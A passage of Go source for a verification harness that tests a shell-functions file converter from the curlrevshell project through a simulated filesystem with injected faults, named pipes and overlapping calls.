		conns = append(conns, c.conns...)
	}
	conns = append(conns, s.preConns...)
	s.mu.Unlock()
	if s.pre != nil {
		_ = s.pre.out.Close()
	}
	synctest.Wait()
	for _, cn := range conns {
		cn.Reset()
	}
	if t, ok := http.DefaultClient.Transport.(*http.Transport); ok && t != nil {
		t.CloseIdleConnections()
	}
	http.DefaultTransport.(*http.Transport).CloseIdleConnections()
	time.Sleep(5 * time.Minute)
	synctest.Wait()
}
