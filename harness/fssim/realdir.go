package fssim

import (
	"fmt"
	"os"
	"path/filepath"
	"syscall"
	"time"

	"github.com/magisterquis/curlrevshell/verifharness/simkit"
)

// materialise writes the tree to a fresh directory below job.Scratch, for the
// FS == nil path of the converter (os.Stat, os.DirFS, os.ReadFile).
func (r *run) materialise() error {
	base := ""
	if r.job != nil {
		base = r.job.Scratch
	}
	root, err := os.MkdirTemp(base, "c17real-")
	if err != nil {
		return err
	}
	r.realRoot = root
	return r.writeReal(r.fs.root, root)
}

func (r *run) writeReal(n *node, dir string) error {
	for _, c := range sortedChildren(n) {
		p := filepath.Join(dir, c.name)
		switch c.kind {
		case kFile:
			if err := os.WriteFile(p, c.data, 0o644); err != nil {
				return err
			}
		case kDir:
			if err := os.Mkdir(p, 0o755); err != nil {
				return err
			}
			if err := r.writeReal(c, p); err != nil {
				return err
			}
		case kSymlink:
			if err := os.Symlink(c.target, p); err != nil {
				return err
			}
		case kPipe:
			if err := syscall.Mkfifo(p, 0o644); err != nil {
				return fmt.Errorf("mkfifo %s: %w", p, err)
			}
			r.fifos = append(r.fifos, p)
		}
	}
	return nil
}

// fromGuarded calls the converter on the real tree.  Opening a named pipe for
// reading blocks until a writer shows up; a correct converter never opens one,
// so the harness keeps trying a non-blocking open for writing on every pipe of
// the tree: that succeeds exactly when a reader is there, which is the
// observation (and lets the call finish with an empty read).
func (r *run) fromGuarded(srcs []string) result {
	if len(r.fifos) == 0 {
		b, err := r.conv.From(srcs...)
		return result{b: b, err: err}
	}
	done := make(chan result, 1)
	go func() {
		b, err := r.conv.From(srcs...)
		done <- result{b: b, err: err}
	}()
	opened := false
	tm := time.NewTimer(20 * time.Millisecond)
	defer tm.Stop()
	for {
		select {
		case res := <-done:
			res.pipeOpened = opened
			return res
		case <-tm.C:
			for _, f := range r.fifos {
				fd, err := syscall.Open(f, syscall.O_WRONLY|syscall.O_NONBLOCK, 0)
				if err == nil {
					opened = true
					_ = syscall.Close(fd)
				}
			}
			simkit.Heartbeat.Add(1)
			tm.Reset(2 * time.Millisecond)
		}
	}
}
