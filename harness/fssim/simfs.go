// Package fssim is the simulated-filesystem engine of the verification
// harness (property C17): the real shellfuncsfile.Converter is driven through
// its FS seam by an in-memory fs.FS with a per-entry fault plan, and its
// result is compared with a reference payload computed from the tree.
// Between the calls of a run the filter table may be edited (the reference
// follows), calls may overlap (a call is held inside the simulated FS at a
// chosen operation while others run; hand-overs are channel operations, one
// goroutine runs at a time), and the FS may have a descriptor budget far above
// what converting one file at a time needs.
package fssim

import (
	"io"
	"io/fs"
	"path"
	"sort"
	"strings"
	"syscall"
	"time"
)

// Entry kinds.
const (
	kFile    = "file"
	kDir     = "dir"
	kSymlink = "symlink"
	kPipe    = "pipe"
)

// Fault kinds.
const (
	fStat  = "stat"  // Stat of the entry fails (EIO)
	fOpen  = "open"  // Open of the entry fails (EIO)
	fRead  = "read"  // Read fails (EIO) after k bytes have been delivered
	fShort = "short" // every Read delivers 1..k bytes (not an error)
	// fEmfile is not planted on an entry: it is the descriptor budget of the
	// whole FS (Config.FDLimit) and fires when an Open finds it used up.
	fEmfile = "emfile"
)

// node is one entry of the simulated tree.
type node struct {
	kind     string
	name     string // base name
	path     string // path from the root of the FS ("." for the root)
	data     []byte
	target   string // symlink target, relative to the link's directory
	children map[string]*node
	faults   map[string]int
	idx      int // creation order
}

func (n *node) hardFault() bool {
	if n == nil {
		return false
	}
	for k := range n.faults {
		if k != fShort {
			return true
		}
	}
	return false
}

// simFS is the simulated file system.  It implements only fs.FS; the
// wrappers below add the optional interfaces.
type simFS struct {
	root   *node
	fired  map[string]int64
	opens  int64
	closes int64
	calls  int64
	// descriptor budget (0: none) and the largest number of handles that
	// were open at the same time
	limit int
	peak  int64
	// cur is the call whose goroutine is running now, when the engine tells
	// calls apart (counting FS operations, overlapping calls); nil otherwise.
	// Exactly one goroutine runs at any time and every hand-over goes through
	// a channel, so nothing here needs a lock.
	cur *legState
}

// legState follows one From call through the file system.
type legState struct {
	ops    int // FS operations made so far
	parkAt int // park when ops reaches this (0: never)
	parked bool
	event  chan int      // to the engine: evParked or evDone
	resume chan struct{} // from the engine: go on
	res    result
	panicv string
}

const (
	evParked = iota
	evDone
)

// tick is called at the start of every FS operation.
func (s *simFS) tick() {
	l := s.cur
	if l == nil {
		return
	}
	l.ops++
	if l.parkAt > 0 && l.ops == l.parkAt && !l.parked {
		l.parked = true
		l.event <- evParked
		<-l.resume
	}
}

func newSimFS() *simFS {
	return &simFS{
		root:  &node{kind: kDir, name: ".", path: ".", children: map[string]*node{}},
		fired: map[string]int64{},
	}
}

func perr(op, name string, err error) error {
	return &fs.PathError{Op: op, Path: name, Err: err}
}

// walk resolves name.  The last element is followed if it is a symbolic link
// only when followLast is set; links in the middle are always followed.
func (s *simFS) walk(name string, followLast bool, depth int) (*node, error) {
	if depth > 12 {
		return nil, syscall.ELOOP
	}
	if name == "." {
		return s.root, nil
	}
	cur := s.root
	parts := strings.Split(name, "/")
	for i, p := range parts {
		if cur.kind != kDir {
			return nil, syscall.ENOTDIR
		}
		child := cur.children[p]
		if child == nil {
			return nil, fs.ErrNotExist
		}
		last := i == len(parts)-1
		if child.kind == kSymlink && (!last || followLast) {
			tgt := path.Join(path.Dir(child.path), child.target)
			if !fs.ValidPath(tgt) {
				return nil, fs.ErrNotExist
			}
			full := path.Join(append([]string{tgt}, parts[i+1:]...)...)
			return s.walk(full, followLast, depth+1)
		}
		cur = child
	}
	return cur, nil
}

// resolve returns the entry name refers to without following a final link
// (ln) and after following it (n); n is nil with err set when the link
// dangles.
func (s *simFS) resolve(name string) (ln, n *node, err error) {
	ln, err = s.walk(name, false, 0)
	if err != nil {
		return nil, nil, err
	}
	n = ln
	if ln.kind == kSymlink {
		n, err = s.walk(name, true, 0)
		if err != nil {
			return ln, nil, err
		}
	}
	return ln, n, nil
}

func (s *simFS) fire(kind string) { s.fired[kind]++ }

func faulted(kind string, ns ...*node) bool {
	for _, n := range ns {
		if n == nil {
			continue
		}
		if _, ok := n.faults[kind]; ok {
			return true
		}
	}
	return false
}

func (s *simFS) stat(name string) (fs.FileInfo, error) {
	s.tick()
	s.calls++
	if !fs.ValidPath(name) {
		return nil, perr("stat", name, fs.ErrInvalid)
	}
	ln, n, err := s.resolve(name)
	if ln != nil && faulted(fStat, ln) {
		s.fire(fStat)
		return nil, perr("stat", name, syscall.EIO)
	}
	if err != nil {
		return nil, perr("stat", name, err)
	}
	if faulted(fStat, n) {
		s.fire(fStat)
		return nil, perr("stat", name, syscall.EIO)
	}
	return &info{name: path.Base(name), n: n}, nil
}

// Open implements fs.FS.
func (s *simFS) Open(name string) (fs.File, error) {
	s.tick()
	s.calls++
	if !fs.ValidPath(name) {
		return nil, perr("open", name, fs.ErrInvalid)
	}
	ln, n, err := s.resolve(name)
	if ln != nil && faulted(fOpen, ln) {
		s.fire(fOpen)
		return nil, perr("open", name, syscall.EIO)
	}
	if err != nil {
		return nil, perr("open", name, err)
	}
	if faulted(fOpen, n) {
		s.fire(fOpen)
		return nil, perr("open", name, syscall.EIO)
	}
	// the descriptor budget: every handle counts (directories too) and a
	// closed handle gives its slot back
	if s.limit > 0 && s.opens-s.closes >= int64(s.limit) {
		s.fire(fEmfile)
		return nil, perr("open", name, syscall.EMFILE)
	}
	s.opens++
	if live := s.opens - s.closes; live > s.peak {
		s.peak = live
	}
	h := &handle{s: s, n: n, name: name, statFault: faulted(fStat, ln, n)}
	h.readLimit, h.short = -1, 0
	for _, x := range []*node{ln, n} {
		if k, ok := x.faults[fRead]; ok && (h.readLimit < 0 || k < h.readLimit) {
			h.readLimit = k
		}
		if k, ok := x.faults[fShort]; ok && k > 0 {
			h.short = k
		}
	}
	if n.kind == kDir {
		return &dirHandle{handle: h}, nil
	}
	return h, nil
}

func (s *simFS) readDir(name string) ([]fs.DirEntry, error) {
	f, err := s.Open(name)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	d, ok := f.(*dirHandle)
	if !ok {
		return nil, perr("readdir", name, syscall.ENOTDIR)
	}
	list, err := d.ReadDir(-1)
	sort.Slice(list, func(i, j int) bool { return list[i].Name() < list[j].Name() })
	return list, err
}

func (s *simFS) readFile(name string) ([]byte, error) {
	f, err := s.Open(name)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	return io.ReadAll(f)
}

// ---- file information ---------------------------------------------------

type info struct {
	name string
	n    *node
}

func modeOf(n *node) fs.FileMode {
	switch n.kind {
	case kDir:
		return fs.ModeDir | 0o755
	case kSymlink:
		return fs.ModeSymlink | 0o777
	case kPipe:
		return fs.ModeNamedPipe | 0o644
	}
	return 0o644
}

func (i *info) Name() string       { return i.name }
func (i *info) Size() int64        { return int64(len(i.n.data)) }
func (i *info) Mode() fs.FileMode  { return modeOf(i.n) }
func (i *info) ModTime() time.Time { return time.Unix(1700000000, 0).UTC() }
func (i *info) IsDir() bool        { return i.n.kind == kDir }
func (i *info) Sys() any           { return nil }

type dirEntry struct{ n *node }

func (d dirEntry) Name() string               { return d.n.name }
func (d dirEntry) IsDir() bool                { return d.n.kind == kDir }
func (d dirEntry) Type() fs.FileMode          { return modeOf(d.n).Type() }
func (d dirEntry) Info() (fs.FileInfo, error) { return &info{name: d.n.name, n: d.n}, nil }

// ---- open files ---------------------------------------------------------

type handle struct {
	s         *simFS
	n         *node
	name      string
	off       int
	reads     int
	closed    bool
	statFault bool
	readLimit int // -1: none
	short     int // 0: none
}

func (h *handle) Stat() (fs.FileInfo, error) {
	h.s.tick()
	if h.closed {
		return nil, perr("stat", h.name, fs.ErrClosed)
	}
	if h.statFault {
		h.s.fire(fStat)
		return nil, perr("stat", h.name, syscall.EIO)
	}
	return &info{name: path.Base(h.name), n: h.n}, nil
}

func (h *handle) Close() error {
	h.s.tick()
	if h.closed {
		return perr("close", h.name, fs.ErrClosed)
	}
	h.closed = true
	h.s.closes++
	return nil
}

func (h *handle) Read(p []byte) (int, error) {
	h.s.tick()
	if h.closed {
		return 0, perr("read", h.name, fs.ErrClosed)
	}
	if h.n.kind == kDir {
		return 0, perr("read", h.name, syscall.EISDIR)
	}
	if len(p) == 0 {
		return 0, nil
	}
	end := len(h.n.data)
	if h.readLimit >= 0 && h.readLimit < end {
		end = h.readLimit
	}
	if h.off >= end {
		if h.readLimit >= 0 {
			h.s.fire(fRead)
			return 0, perr("read", h.name, syscall.EIO)
		}
		return 0, io.EOF
	}
	n := end - h.off
	if n > len(p) {
		n = len(p)
	}
	if h.short > 0 {
		max := 1 + h.reads%h.short
		if n > max {
			n = max
			h.s.fire(fShort)
		}
	}
	h.reads++
	copy(p, h.n.data[h.off:h.off+n])
	h.off += n
	return n, nil
}

type dirHandle struct {
	*handle
	list []fs.DirEntry
	init bool
}

// ReadDir returns the entries in "directory order", which here is reverse
// name order on purpose: only fs.ReadDir (the function) promises sorting.
func (d *dirHandle) ReadDir(n int) ([]fs.DirEntry, error) {
	d.s.tick()
	if d.closed {
		return nil, perr("readdir", d.name, fs.ErrClosed)
	}
	if !d.init {
		d.init = true
		names := make([]string, 0, len(d.n.children))
		for k := range d.n.children {
			names = append(names, k)
		}
		sort.Sort(sort.Reverse(sort.StringSlice(names)))
		for _, k := range names {
			d.list = append(d.list, dirEntry{d.n.children[k]})
		}
	}
	if d.readLimit >= 0 {
		// a read fault on a directory: listing fails after readLimit entries
		k := d.readLimit
		if k > len(d.list) {
			k = len(d.list)
		}
		out := d.list[:k]
		d.list = d.list[k:]
		d.s.fire(fRead)
		return out, perr("readdir", d.name, syscall.EIO)
	}
	if n <= 0 {
		out := d.list
		d.list = nil
		return out, nil
	}
	if len(d.list) == 0 {
		return nil, io.EOF
	}
	if n > len(d.list) {
		n = len(d.list)
	}
	out := d.list[:n]
	d.list = d.list[n:]
	return out, nil
}

// ---- the three faces the converter may be given ---------------------------

// bareFS implements fs.FS only: fs.Stat, fs.ReadDir, fs.ReadFile and fs.Glob
// all go through Open.
type bareFS struct{ s *simFS }

func (b bareFS) Open(name string) (fs.File, error) { return b.s.Open(name) }

// fullFS adds StatFS, ReadDirFS and ReadFileFS.
type fullFS struct{ s *simFS }

func (f fullFS) Open(name string) (fs.File, error)          { return f.s.Open(name) }
func (f fullFS) Stat(name string) (fs.FileInfo, error)      { return f.s.stat(name) }
func (f fullFS) ReadDir(name string) ([]fs.DirEntry, error) { return f.s.readDir(name) }
func (f fullFS) ReadFile(name string) ([]byte, error)       { return f.s.readFile(name) }

// globFS adds GlobFS on top (implemented with the library's own algorithm on
// the full face).
type globFS struct{ fullFS }

func (g globFS) Glob(pattern string) ([]string, error) { return fs.Glob(g.fullFS, pattern) }

var (
	_ fs.FS         = bareFS{}
	_ fs.StatFS     = fullFS{}
	_ fs.ReadDirFS  = fullFS{}
	_ fs.ReadFileFS = fullFS{}
	_ fs.GlobFS     = globFS{}
)

func (s *simFS) face(kind string) fs.FS {
	switch kind {
	case "bare":
		return bareFS{s}
	case "glob":
		return globFS{fullFS{s}}
	}
	return fullFS{s}
}
