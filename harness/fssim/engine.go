package fssim

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"path"
	"runtime/debug"
	"strings"
	"testing"

	"github.com/magisterquis/curlrevshell/lib/shellfuncsfile"
	"github.com/magisterquis/curlrevshell/verifharness/simkit"
)

// Property is the property this engine judges.
const Property = "C17"

// Invariant slugs.
const (
	invExact        = "exact-payload"
	invDotFails     = "dot-entry-fails-conversion"
	invDotIncluded  = "dot-entry-in-payload"
	invIneligFails  = "ineligible-entry-fails-conversion"
	invIneligIncl   = "ineligible-entry-in-payload"
	invFaultWrong   = "fault-yields-wrong-payload"
	invSameEachCall = "same-on-every-call"
	invSingleFile   = "single-file"
	invMultiOrder   = "multi-source-order"
)

// Engine is the simulated-filesystem engine.
type Engine struct{}

// Name implements simkit.Engine.
func (Engine) Name() string { return "fssim" }

// arg returns a switch from job.Args, or from the environment variable
// FSSIM_<KEY> (for devrun.sh, which cannot pass Args).
func arg(job *simkit.Job, key string) bool {
	if job != nil && job.Args[key] == "1" {
		return true
	}
	return os.Getenv("FSSIM_"+strings.ToUpper(key)) == "1"
}

type result struct {
	b   []byte
	err error
	// a reader showed up on a named pipe of the real tree (the call would
	// have blocked for ever without the harness stepping in)
	pipeOpened bool
}

type run struct {
	job     *simkit.Job
	cfg     Config
	actions []Action
	fs      *simFS
	tab     *table
	conv    *shellfuncsfile.Converter

	realRoot string
	fifos    []string

	invalid    bool
	harnessErr string
	found      []simkit.Found
	seen       map[string]bool
	trace      []string
	probes     map[string]int64
	steps      int64
	reps       int // how often every call is made
	hits       int // violations noticed, repeats of a reported one included
	nontrivial bool

	// results of earlier calls by source list, for same-on-every-call (since
	// the filter table last changed)
	earlier map[string]result

	// patterns removed by SetFilter(p, nil) after the converter had been used
	// (and not set again since)
	removed map[string]bool
	edited  bool // some SetFilter call was made after the converter had been used
}

// minFDLimit is the smallest descriptor budget a case may have: far more than
// one call (one handle at a time) or a few overlapping calls can need.
const minFDLimit = 8

// Run implements simkit.Engine.
func (Engine) Run(t *testing.T, job *simkit.Job, rng *simkit.RNG, idx int64, c *simkit.Case) *simkit.Outcome {
	r := &run{job: job, probes: map[string]int64{}, seen: map[string]bool{}, earlier: map[string]result{},
		removed: map[string]bool{}}
	r.reps = 2
	if c != nil {
		r.reps = 10
		if err := json.Unmarshal(c.Config, &r.cfg); err != nil {
			return &simkit.Outcome{HarnessErr: "bad config: " + err.Error()}
		}
		for _, raw := range c.Actions {
			var a Action
			if err := json.Unmarshal(raw, &a); err != nil {
				return &simkit.Outcome{HarnessErr: "bad action: " + err.Error()}
			}
			r.actions = append(r.actions, a)
		}
	} else {
		r.cfg, r.actions = generate(job, rng)
	}
	func() {
		defer func() {
			if p := recover(); p != nil {
				r.harnessErr = fmt.Sprintf("panic: %v\n%s", p, debug.Stack())
			}
		}()
		r.execute()
	}()
	if r.realRoot != "" {
		_ = os.RemoveAll(r.realRoot)
	}
	return r.outcome()
}

func (r *run) outcome() *simkit.Outcome {
	o := &simkit.Outcome{
		Invalid: r.invalid, Steps: r.steps, Probes: r.probes, NonTrivial: r.nontrivial,
		Violations: r.found, Trace: r.trace, HarnessErr: r.harnessErr,
		Faults: map[string]int64{},
	}
	if r.fs != nil {
		for k, v := range r.fs.fired {
			o.Faults[k] = v
		}
	}
	cb, _ := json.Marshal(r.cfg)
	cs := &simkit.Case{Config: cb}
	parts := []string{string(cb)}
	for _, a := range r.actions {
		b, _ := json.Marshal(a)
		cs.Actions = append(cs.Actions, b)
		parts = append(parts, string(b))
	}
	o.Case = cs
	o.Hash = simkit.Hash64(parts...)
	return o
}

func (r *run) logf(format string, args ...any) {
	r.trace = append(r.trace, fmt.Sprintf(format, args...))
}

func (r *run) violate(inv, sig, format string, args ...any) {
	key := inv + "|" + sig
	r.hits++
	if r.seen[key] {
		return
	}
	r.seen[key] = true
	msg := r.scrub(fmt.Sprintf(format, args...))
	r.found = append(r.found, simkit.Found{Property: Property, Invariant: inv, Signature: sig, Message: msg})
	r.logf("VIOLATION %s :: %s :: %s", inv, sig, msg)
}

// scrub removes the temporary root of a real tree from text.
func (r *run) scrub(s string) string {
	if r.realRoot != "" {
		s = strings.ReplaceAll(s, r.realRoot, "<root>")
	}
	return s
}

func (r *run) execute() {
	var err error
	if r.tab, err = newTable(r.cfg); err != nil {
		r.invalid = true
		r.logf("config not usable: %v", err)
		return
	}
	r.logf("config base=%s iface=%s real=%v add_list=%v fd_limit=%d table=%s", r.cfg.Base, r.cfg.Iface, r.cfg.Real,
		r.cfg.AddList, r.cfg.FDLimit, r.tableString())

	// 1. the tree
	r.fs = newSimFS()
	if r.cfg.FDLimit != 0 {
		if r.cfg.FDLimit < minFDLimit {
			r.invalid = true
			r.logf("descriptor budget %d is below %d", r.cfg.FDLimit, minFDLimit)
			return
		}
		if !r.cfg.Real {
			r.fs.limit = r.cfg.FDLimit
			r.probes["fd_budget_runs"]++
		}
	}
	var calls []Action
	var faults []Action
	for i, a := range r.actions {
		switch a.Op {
		case kFile, kPipe:
			if !r.fs.add(a.Name, &node{kind: a.Op, data: []byte(a.Data), idx: i}) {
				r.invalid = true
			}
		case kDir:
			if !r.fs.add(a.Name, &node{kind: kDir, idx: i}) {
				r.invalid = true
			}
		case kSymlink:
			if a.Target == "" || strings.HasPrefix(a.Target, "/") || strings.ContainsRune(a.Target, 0) ||
				!r.fs.add(a.Name, &node{kind: kSymlink, target: a.Target, idx: i}) {
				r.invalid = true
			}
		case "fault":
			faults = append(faults, a)
		case "call", "filter", "overlap":
			calls = append(calls, a)
		default:
			r.invalid = true
		}
		if r.invalid {
			r.logf("item %d %s :: NOT APPLICABLE", i, a)
			return
		}
	}
	// 2. the fault plan
	for _, a := range faults {
		switch a.Kind {
		case fStat, fOpen, fRead, fShort:
		default:
			r.invalid = true
			r.logf("%s :: unknown kind", a)
			return
		}
		if a.K < 0 || (a.Kind == fShort && a.K < 1) {
			r.invalid = true
			return
		}
		n, err := r.fs.walk(a.Name, false, 0)
		if err != nil || r.cfg.Real {
			r.logf("%s :: no effect (%s)", a, map[bool]string{true: "real tree", false: "no such entry"}[r.cfg.Real])
			continue
		}
		if n.faults == nil {
			n.faults = map[string]int{}
		}
		n.faults[a.Kind] = a.K
	}
	r.describeTree(r.fs.root, 0)

	// 3. the converter
	if r.cfg.Base == "zero" {
		r.conv = &shellfuncsfile.Converter{}
	} else {
		r.conv = shellfuncsfile.NewDefaultConverter()
	}
	r.conv.AddListFunction = r.cfg.AddList
	for _, op := range r.cfg.Table {
		r.conv.SetFilter(op.P, makeFilter(op))
	}
	if r.cfg.Real {
		if err := r.materialise(); err != nil {
			r.harnessErr = "real tree: " + r.scrub(err.Error())
			return
		}
		r.probes["real_dir_runs"]++
	} else {
		r.conv.FS = r.fs.face(r.cfg.Iface)
		r.probes["iface_"+r.cfg.Iface]++
	}
	if r.cfg.AddList {
		r.probes["add_list_runs"]++
	}

	// 4. the calls
	for i, a := range calls {
		simkit.Heartbeat.Add(1)
		switch a.Op {
		case "call":
			r.call(i, a.Sources)
		case "filter":
			r.setFilter(i, a)
		case "overlap":
			r.overlap(i, a)
		}
		if r.invalid || r.harnessErr != "" {
			return
		}
	}
	if r.fs.opens != r.fs.closes {
		r.probes["handles_left_open"] += r.fs.opens - r.fs.closes
	}
	if r.fs.peak >= 2 {
		if r.probes["overlap_steps"] > 0 {
			r.probes["two_or_more_handles_open_at_once_with_overlap"]++
		} else {
			r.probes["two_or_more_handles_open_at_once_without_overlap"]++
		}
	}
}

// setFilter performs one "filter" item: a SetFilter call on the converter in
// use, which the reference table follows.
func (r *run) setFilter(i int, a Action) {
	if a.Filter == nil || r.cfg.Base == "zero" {
		// (the zero converter has no table to edit: SetFilter needs the map
		// NewDefaultConverter makes)
		r.invalid = true
		r.logf("step %d %s :: NOT APPLICABLE", i, a)
		return
	}
	op := *a.Filter
	_, had := r.tab.kind[op.P]
	if err := r.tab.apply(op); err != nil {
		r.invalid = true
		r.logf("step %d %s :: %v", i, a, err)
		return
	}
	r.tab.resort()
	r.conv.SetFilter(op.P, makeFilter(op))
	used := r.steps > 0
	what := ""
	switch {
	case op.K == fkDel && had:
		what = "removed"
		if used {
			r.removed[op.P] = true
		}
	case op.K == fkDel:
		what = "removed_absent"
	case had:
		what = "replaced"
		delete(r.removed, op.P)
	default:
		what = "added"
		delete(r.removed, op.P)
	}
	if used {
		r.edited = true
		r.probes["filter_"+what+"_after_use"]++
	} else {
		r.probes["filter_"+what+"_before_use"]++
	}
	// what was returned under the old table says nothing about the new one
	r.earlier = map[string]result{}
	r.logf("step %d filter %q=%s (%s) table=%s", i, op.P, op.K, what, r.tableString())
}

// afterEdit counts the calls that follow an edit of the table of a converter
// which had been used before.
func (r *run) afterEdit(models []*srcModel) {
	if !r.edited {
		return
	}
	r.probes["calls_after_filter_edit"]++
	if len(r.removed) == 0 {
		return
	}
	r.probes["calls_after_filter_removal"]++
	for _, m := range models {
		for _, e := range m.entries {
			if e.nested || e.dot || e.n.kind != kFile {
				continue
			}
			for _, p := range simkit.SortedKeys(r.removed) {
				if ok, _ := path.Match(p, e.name); ok {
					r.probes["file_of_removed_pattern_in_called_dir"]++
					break
				}
			}
		}
	}
}

// fromCounted makes a call alone, counting its FS operations.
func (r *run) fromCounted(sources []string) (result, int) {
	l := &legState{}
	r.fs.cur = l
	res := r.from(sources)
	r.fs.cur = nil
	return res, l.ops
}

// overlap performs one "overlap" item: every leg alone first (judged like any
// call, and counted), then all of them again overlapping in time.  A leg
// parks inside the simulated FS; while it is held there the next leg is
// started, and so on; then the parked legs are let go one by one.  Only one
// goroutine runs at any time and every hand-over is a channel operation, so
// the interleaving is exactly the one the item names.
func (r *run) overlap(i int, a Action) {
	if r.cfg.Real || len(a.Legs) == 0 || len(a.Legs) > 4 {
		r.invalid = true
		r.logf("step %d %s :: NOT APPLICABLE", i, a)
		return
	}
	type legRun struct {
		leg    Leg
		models []*srcModel
		alone  result
		n      int
		st     *legState
	}
	var legs []*legRun
	for j, lg := range a.Legs {
		if len(lg.Sources) == 0 || lg.Park < 0 {
			r.invalid = true
			return
		}
		lr := &legRun{leg: lg}
		for _, s := range lg.Sources {
			m, ok := r.model(s)
			if !ok {
				r.invalid = true
				r.logf("step %d overlap leg %d %q :: source %q is neither a directory nor a regular file of the tree", i, j, lg.Sources, s)
				return
			}
			lr.models = append(lr.models, m)
		}
		legs = append(legs, lr)
	}
	r.probes["overlap_steps"]++
	// ---- every leg alone
	for j, lr := range legs {
		lr.alone, lr.n = r.fromCounted(lr.leg.Sources)
		r.logf("step %d overlap leg %d %q alone -> %s%s ops=%d", i, j, lr.leg.Sources, lr.alone, r.errText(lr.alone), lr.n)
		r.afterEdit(lr.models)
		r.judge(lr.leg.Sources, lr.models, lr.alone, true)
		key := strings.Join(lr.leg.Sources, "\x00")
		if old, ok := r.earlier[key]; ok && !same(old, lr.alone) {
			r.violate(invSameEachCall, "an identical later call differs",
				"sources %q: earlier %s, now %s", lr.leg.Sources, old, lr.alone)
		}
		r.earlier[key] = lr.alone
		if lr.n < 1 {
			r.harnessErr = fmt.Sprintf("overlap leg %d made no FS operation", j)
			return
		}
	}
	// ---- all legs overlapping
	var parked []int
	start := func(j int) {
		lr := legs[j]
		st := &legState{event: make(chan int), resume: make(chan struct{})}
		if lr.leg.Park > 0 {
			st.parkAt = 1 + (lr.leg.Park-1)%lr.n
		}
		lr.st = st
		srcs := lr.leg.Sources
		r.steps++
		r.fs.cur = st
		go func() {
			defer func() {
				if p := recover(); p != nil {
					st.panicv = fmt.Sprintf("panic: %v\n%s", p, debug.Stack())
				}
				st.event <- evDone
			}()
			b, err := r.conv.From(srcs...)
			st.res = result{b: b, err: err}
		}()
	}
	wait := func(j int) {
		st := legs[j].st
		switch <-st.event {
		case evParked:
			parked = append(parked, j)
			r.logf("step %d overlap leg %d parked at FS operation %d of %d; open handles %d", i, j, st.parkAt, legs[j].n,
				r.fs.opens-r.fs.closes)
		case evDone:
			if len(parked) > 0 {
				r.probes["overlap_call_completed_while_another_parked"]++
			}
			r.logf("step %d overlap leg %d returned -> %s%s", i, j, st.res, r.errText(st.res))
		}
		r.fs.cur = nil
	}
	for j := range legs {
		simkit.Heartbeat.Add(1)
		start(j)
		wait(j)
	}
	if len(parked) >= 2 {
		r.probes["overlap_several_parked"]++
	}
	if len(parked) == 0 {
		r.probes["overlap_nothing_parked"]++
	}
	// the order of release: as named, the rest in leg order
	var order []int
	isParked, taken := map[int]bool{}, map[int]bool{}
	for _, j := range parked {
		isParked[j] = true
	}
	for _, j := range a.Release {
		if isParked[j] && !taken[j] {
			taken[j] = true
			order = append(order, j)
		}
	}
	for _, j := range parked {
		if !taken[j] {
			order = append(order, j)
		}
	}
	if len(order) >= 2 && order[0] != parked[0] {
		r.probes["overlap_released_in_other_order"]++
	}
	for _, j := range order {
		simkit.Heartbeat.Add(1)
		st := legs[j].st
		r.fs.cur = st
		st.resume <- struct{}{}
		if ev := <-st.event; ev != evDone {
			r.harnessErr = "a leg parked twice"
		}
		r.fs.cur = nil
		r.logf("step %d overlap leg %d released, returned -> %s%s", i, j, st.res, r.errText(st.res))
	}
	for j, lr := range legs {
		if lr.st.panicv != "" && r.harnessErr == "" {
			r.harnessErr = fmt.Sprintf("overlap leg %d: %s", j, lr.st.panicv)
		}
	}
	if r.harnessErr != "" {
		return
	}
	// ---- the verdict: a call is the same whatever else goes on
	for j, lr := range legs {
		if lr.st.parked {
			r.probes["overlap_legs_parked"]++
		} else if lr.leg.Park > 0 {
			r.probes["overlap_park_point_not_reached"]++
		}
		if lr.st.ops != lr.n {
			r.probes["overlap_leg_other_op_count"]++
		}
		if same(lr.alone, lr.st.res) {
			continue
		}
		how := "ran while another call was held in the file system"
		if lr.st.parked {
			how = "was held in the file system while another call ran"
		}
		r.violate(invSameEachCall, "a call that overlaps another call on the same converter differs from the same call made alone",
			"leg %d, sources %q, %s: alone %s, overlapping %s", j, lr.leg.Sources, how, lr.alone, lr.st.res)
		r.judge(lr.leg.Sources, lr.models, lr.st.res, true)
	}
}

func (r *run) tableString() string {
	var sb strings.Builder
	for _, p := range r.tab.pats {
		fmt.Fprintf(&sb, "%q=%s ", p, r.tab.kind[p])
	}
	return strings.TrimSpace(sb.String())
}

func (r *run) describeTree(n *node, depth int) {
	for _, c := range sortedChildren(n) {
		var fl []string
		for _, k := range simkit.SortedKeys(c.faults) {
			fl = append(fl, fmt.Sprintf("%s=%d", k, c.faults[k]))
		}
		extra := ""
		switch c.kind {
		case kFile, kPipe:
			extra = fmt.Sprintf(" len=%d tok=%s", len(c.data), tokenOf(c.data))
		case kSymlink:
			extra = fmt.Sprintf(" -> %q", c.target)
		}
		r.logf("tree %s%s %q%s %s", strings.Repeat("  ", depth), c.kind, c.name, extra, strings.Join(fl, ","))
		if c.kind == kDir {
			r.describeTree(c, depth+1)
		}
	}
}

func makeFilter(op FilterOp) shellfuncsfile.Filter {
	switch op.K {
	case fkMark:
		p := op.P
		return func(name string, rd io.Reader) ([]byte, error) {
			b, err := io.ReadAll(rd)
			if err != nil {
				return nil, err
			}
			return markOut(p, name, b), nil
		}
	case fkPass:
		return func(_ string, rd io.Reader) ([]byte, error) { return io.ReadAll(rd) }
	case fkDrop:
		return func(_ string, rd io.Reader) ([]byte, error) {
			if _, err := io.ReadAll(rd); err != nil {
				return nil, err
			}
			return nil, nil
		}
	}
	return nil // del
}

func (r *run) from(sources []string) result {
	r.steps++
	srcs := sources
	if r.cfg.Real {
		srcs = make([]string, len(sources))
		for i, s := range sources {
			srcs[i] = r.realRoot + "/" + s
		}
		return r.fromGuarded(srcs)
	}
	b, err := r.conv.From(srcs...)
	return result{b: b, err: err}
}

func (res result) String() string {
	if res.err != nil {
		return "FAIL"
	}
	return fmt.Sprintf("ok len=%d h=%016x", len(res.b), simkit.Hash64(string(res.b)))
}

func same(a, b result) bool {
	return (a.err == nil) == (b.err == nil) && bytes.Equal(a.b, b.b)
}

// call performs one "call" item: the call itself twice, and for several
// sources each source on its own as well.
func (r *run) call(i int, sources []string) {
	if len(sources) == 0 {
		r.invalid = true
		return
	}
	var models []*srcModel
	for _, s := range sources {
		m, ok := r.model(s)
		if !ok {
			r.invalid = true
